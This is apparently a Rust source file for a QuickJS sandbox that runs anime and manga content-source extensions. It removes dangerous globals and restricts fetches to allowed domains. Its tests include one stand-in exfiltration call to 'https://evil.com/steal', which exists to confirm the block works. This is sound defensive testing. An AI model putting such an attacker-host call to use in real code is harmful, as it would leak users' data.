// Extension Runtime - QuickJS sandbox execution
//
// Runs a script extension behind the `ContentSource` trait:
// - Fresh runtime and context per call, so no JS state survives between calls
// - Dangerous globals removed
// - `__fetch` routed through the host's FetchBridge, limited to the
//   extension's allowed domains
// - `__allowAdult` injected per call from `CallOptions`

use super::error::{ExtensionError, ExtensionResult};
use super::extension::ScriptExtension;
use super::fetch::{FetchBridge, FetchOptions};
use super::normalize::{preview, sort_ascending_by};
use super::source::ContentSource;
use super::types::*;
use anyhow::{anyhow, Result};
use rquickjs::{Context, Ctx, Function, Runtime};
use serde::de::DeserializeOwned;
use serde_json::json;
use std::sync::Arc;

const SANDBOX_PRELUDE: &str = r#"
    // Remove Node.js globals
    delete globalThis.require;
    delete globalThis.process;
    delete globalThis.Buffer;
    delete globalThis.global;
    delete globalThis.__dirname;
    delete globalThis.__filename;

    // Remove dangerous eval-like functions
    delete globalThis.eval;
    delete globalThis.Function;

    globalThis.console = {
        log: function(...args) {
            __log(JSON.stringify(args));
        },
        error: function(...args) {
            __log("ERROR: " + JSON.stringify(args));
        }
    };

    globalThis.__fetch = function(url, options) {
        const raw = __nativeFetch(String(url), JSON.stringify(options || {}));
        const response = JSON.parse(raw);
        if (response.error) {
            throw new Error(response.error);
        }
        return response;
    };
"#;

const CALL_DRIVER: &str = r#"
    (function() {
        const fn = extensionObject[__method];
        if (typeof fn !== 'function') {
            return undefined;
        }
        return fn.apply(extensionObject, __args);
    })()
"#;

/// A script extension exposed as a content source
pub struct ScriptSource {
    extension: Arc<ScriptExtension>,
    bridge: Arc<dyn FetchBridge>,
}

impl ScriptSource {
    pub fn new(extension: ScriptExtension, bridge: Arc<dyn FetchBridge>) -> Self {
        Self {
            extension: Arc::new(extension),
            bridge,
        }
    }

    /// Load from JavaScript source
    pub fn from_code(code: &str, bridge: Arc<dyn FetchBridge>) -> Result<Self> {
        Ok(Self::new(ScriptExtension::from_code(code)?, bridge))
    }

    fn js_error(ctx: &Ctx<'_>, err: rquickjs::Error) -> anyhow::Error {
        if let rquickjs::Error::Exception = err {
            let thrown = ctx.catch();
            if let Some(exception) = thrown.as_exception() {
                return anyhow!("JavaScript exception: {}", exception.message().unwrap_or_default());
            }
            return anyhow!("JavaScript exception: {:?}", thrown);
        }
        anyhow!(err)
    }

    /// Register `__log` and `__nativeFetch`, then run the prelude
    fn install_sandbox(&self, ctx: &Ctx<'_>, opts: CallOptions) -> rquickjs::Result<()> {
        let log_fn = Function::new(ctx.clone(), |message: String| {
            log::debug!("[script] {}", message);
        })?;
        ctx.globals().set("__log", log_fn)?;

        let bridge = self.bridge.clone();
        let extension = self.extension.clone();
        let fetch_fn = Function::new(ctx.clone(), move |url: String, options_json: String| -> String {
            if !extension.is_url_allowed(&url) {
                log::warn!("{}: blocked fetch to {}", extension.descriptor.name, url);
                return json!({ "error": format!("Network access to '{}' not allowed", url) }).to_string();
            }

            let options: FetchOptions = serde_json::from_str(&options_json).unwrap_or_default();
            match bridge.fetch(&url, &options) {
                Ok(response) => json!({ "status": response.status, "body": response.body }).to_string(),
                Err(e) => json!({ "error": e.to_string() }).to_string(),
            }
        })?;
        ctx.globals().set("__nativeFetch", fetch_fn)?;

        ctx.eval::<(), _>(SANDBOX_PRELUDE)?;
        ctx.globals().set("__allowAdult", opts.allow_adult)?;

        Ok(())
    }

    /// Call `extensionObject[method](...args)` and return the JSON of its
    /// result, or `None` when the method is missing or returns undefined
    fn invoke(&self, method: &str, args: serde_json::Value, opts: CallOptions) -> Result<Option<String>> {
        let runtime = Runtime::new()?;
        let context = Context::full(&runtime)?;
        let args_json = serde_json::to_string(&args)?;

        context.with(|ctx| -> Result<Option<String>> {
            self.install_sandbox(&ctx, opts)
                .map_err(|e| Self::js_error(&ctx, e))?;

            // Load the extension code
            ctx.eval::<(), _>(self.extension.code.as_str())
                .map_err(|e| Self::js_error(&ctx, e))?;

            let js_args = ctx
                .json_parse(args_json.as_str())
                .map_err(|e| Self::js_error(&ctx, e))?;
            ctx.globals().set("__method", method)?;
            ctx.globals().set("__args", js_args)?;

            let result: rquickjs::Value = ctx.eval(CALL_DRIVER).map_err(|e| Self::js_error(&ctx, e))?;

            // Async methods hand back a promise; drive it to completion
            let promise = result.as_promise().cloned();
            let result = match promise {
                Some(p) => p
                    .finish::<rquickjs::Value>()
                    .map_err(|e| Self::js_error(&ctx, e))?,
                None => result,
            };

            if result.is_undefined() || result.is_null() {
                return Ok(None);
            }

            let json = ctx
                .json_stringify(result)
                .map_err(|e| Self::js_error(&ctx, e))?
                .map(|s| s.to_string())
                .transpose()?;

            Ok(json)
        })
    }

    fn call<T: DeserializeOwned>(&self, method: &str, args: serde_json::Value, opts: CallOptions) -> Result<Option<T>> {
        match self.invoke(method, args, opts)? {
            Some(json) => {
                log::debug!("{} result: {}", method, preview(&json, 200));
                Ok(Some(serde_json::from_str(&json)?))
            }
            None => Ok(None),
        }
    }

    /// Call a method whose failures downgrade to `fallback`
    fn call_or<T: DeserializeOwned>(&self, method: &str, args: serde_json::Value, opts: CallOptions, fallback: T) -> T {
        match self.call::<T>(method, args, opts) {
            Ok(Some(value)) => value,
            Ok(None) => {
                log::warn!("{}: `{}` returned nothing", self.extension.descriptor.name, method);
                fallback
            }
            Err(e) => {
                log::error!("{}: `{}` failed: {}", self.extension.descriptor.name, method, e);
                fallback
            }
        }
    }
}

impl ContentSource for ScriptSource {
    fn descriptor(&self) -> SourceDescriptor {
        self.extension.descriptor.clone()
    }

    fn search(&self, query: &str, page: u32, opts: CallOptions) -> SearchResults {
        self.call_or("search", json!([query, page]), opts, SearchResults::empty())
    }

    fn discover(&self, page: u32, sort_type: &str, genres: &[String], opts: CallOptions) -> SearchResults {
        match self.call::<SearchResults>("discover", json!([page, sort_type, genres]), opts) {
            Ok(Some(results)) => results,
            Ok(None) => {
                log::info!("Discover method not found, using search");
                self.search("", page, opts)
            }
            Err(e) => {
                log::error!("{}: `discover` failed: {}", self.extension.descriptor.name, e);
                SearchResults::empty()
            }
        }
    }

    fn get_details(&self, id: &str, opts: CallOptions) -> ExtensionResult<Details> {
        let raw = self
            .call::<serde_json::Value>("getDetails", json!([id]), opts)
            .map_err(|e| ExtensionError::JavaScript(e.to_string()))?
            .ok_or_else(|| {
                let name = &self.extension.descriptor.name;
                ExtensionError::NotFound {
                    id: id.to_string(),
                    message: if opts.allow_adult {
                        format!("{}: no details for {}", name, id)
                    } else {
                        format!(
                            "{}: no details for {}. It may be adult content; enable adult content to view it.",
                            name, id
                        )
                    },
                }
            })?;

        let details = match self.extension.descriptor.extension_type {
            ExtensionType::Anime => {
                let mut details: MediaDetails = serde_json::from_value(raw)?;
                sort_ascending_by(&mut details.episodes, |e| e.number);
                Details::Anime(details)
            }
            ExtensionType::Manga => {
                let mut details: MangaDetails = serde_json::from_value(raw)?;
                sort_ascending_by(&mut details.chapters, |c| c.number);
                Details::Manga(details)
            }
        };
        Ok(details)
    }

    fn get_sources(&self, episode_id: &str, opts: CallOptions) -> VideoSources {
        let sources = self.call_or("getSources", json!([episode_id]), opts, VideoSources::error());
        // Scripts may return an empty list; keep the sentinel contract
        VideoSources::from_sources(sources.sources, sources.subtitles)
    }

    fn get_chapter_images(&self, chapter_id: &str, opts: CallOptions) -> ChapterImages {
        let mut images: ChapterImages =
            self.call_or("getChapterImages", json!([chapter_id]), opts, ChapterImages::empty());
        images.images.sort_by_key(|i| i.page);
        images
    }

    fn get_tags(&self, page: u32, opts: CallOptions) -> TagsResult {
        self.call_or("getTags", json!([page]), opts, TagsResult::empty())
    }

    fn get_recommendations(&self, opts: CallOptions) -> SearchResults {
        let mut results: SearchResults = self.call_or("getRecommendations", json!([]), opts, SearchResults::empty());
        results.has_next_page = false;
        results
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extensions::test_support::StubBridge;

    const SCRIPT: &str = r#"
        const extensionObject = {
            name: "Test Extension",
            version: "1.0.0",
            type: "anime",
            language: "en",
            baseUrl: "https://example.com",

            search: (query, page) => {
                // Try to access forbidden globals
                if (typeof require !== 'undefined') throw new Error("require is accessible!");
                if (typeof process !== 'undefined') throw new Error("process is accessible!");
                if (typeof eval !== 'undefined') throw new Error("eval is accessible!");

                const res = __fetch("https://example.com/search?q=" + query, { method: "GET", headers: {} });
                const data = JSON.parse(res.body);
                return {
                    results: data.items.map(item => ({
                        id: item.id,
                        title: item.title,
                        coverUrl: null,
                        description: null,
                        year: null,
                        rating: null,
                        genres: [],
                        status: __allowAdult ? "adult" : "safe"
                    })),
                    hasNextPage: false
                };
            },

            getRecommendations: async () => {
                return { results: [], hasNextPage: true };
            },

            getSources: (episodeId) => {
                try {
                    __fetch("https://evil.com/steal", {});
                } catch (e) {
                    console.error(String(e));
                }
                return { sources: [], subtitles: [] };
            },

            getDetails: (id) => null
        };
    "#;

    fn source() -> ScriptSource {
        let bridge = StubBridge::new().route("example.com/search", r#"{"items":[{"id":"x1","title":"One"}]}"#);
        ScriptSource::from_code(SCRIPT, Arc::new(bridge)).unwrap()
    }

    #[test]
    fn test_sandbox_removes_dangerous_globals_and_bridges_fetch() {
        let results = source().search("one", 1, CallOptions::default());
        assert_eq!(results.results.len(), 1);
        assert_eq!(results.results[0].id, "x1");
        assert_eq!(results.results[0].status, "safe");
    }

    #[test]
    fn test_allow_adult_is_injected_per_call() {
        let source = source();
        assert_eq!(source.search("one", 1, CallOptions::adult(true)).results[0].status, "adult");
        assert_eq!(source.search("one", 1, CallOptions::adult(false)).results[0].status, "safe");
    }

    #[test]
    fn test_async_methods_and_contract_fixups() {
        let source = source();
        // Promise is driven to completion; pagination forced off
        assert!(!source.get_recommendations(CallOptions::default()).has_next_page);
        // Blocked fetch throws inside the script; empty list becomes the sentinel
        let sources = source.get_sources("x1::1", CallOptions::default());
        assert_eq!(sources.sources.len(), 1);
        assert!(!sources.has_playable());
    }

    #[test]
    fn test_missing_methods_degrade() {
        let source = source();
        // No discover: falls back to search("")
        assert_eq!(source.discover(1, "score", &[], CallOptions::default()).results.len(), 1);
        assert!(source.get_tags(1, CallOptions::default()).genres.is_empty());
        assert!(matches!(
            source.get_details("x1", CallOptions::default()),
            Err(ExtensionError::NotFound { .. })
        ));
    }

    #[test]
    fn test_missing_details_message_follows_adult_gate() {
        let source = source();
        let message = |allow_adult| match source.get_details("x1", CallOptions::adult(allow_adult)) {
            Err(ExtensionError::NotFound { message, .. }) => message,
            other => panic!("expected NotFound, got {:?}", other),
        };
        assert!(message(false).contains("enable adult content"));
        assert!(!message(true).contains("adult content"));
    }

    #[test]
    fn test_script_details_are_sorted() {
        let script = r#"
            const extensionObject = {
                name: "Unsorted",
                version: "1.0.0",
                type: "anime",
                language: "en",
                baseUrl: "https://example.com",
                search: () => ({ results: [], hasNextPage: false }),
                getDetails: (id) => ({
                    id: id,
                    title: "Unsorted Show",
                    episodes: [
                        { id: id + "::10", number: 10 },
                        { id: id + "::2", number: 2 },
                        { id: id + "::1.5", number: 1.5 },
                        { id: id + "::1", number: 1 }
                    ]
                })
            };
        "#;
        let source = ScriptSource::from_code(script, Arc::new(StubBridge::new())).unwrap();

        let details = source.get_details("s1", CallOptions::default()).unwrap().into_anime().unwrap();
        let numbers: Vec<f32> = details.episodes.iter().map(|e| e.number).collect();
        assert_eq!(numbers, vec![1.0, 1.5, 2.0, 10.0]);
    }
}
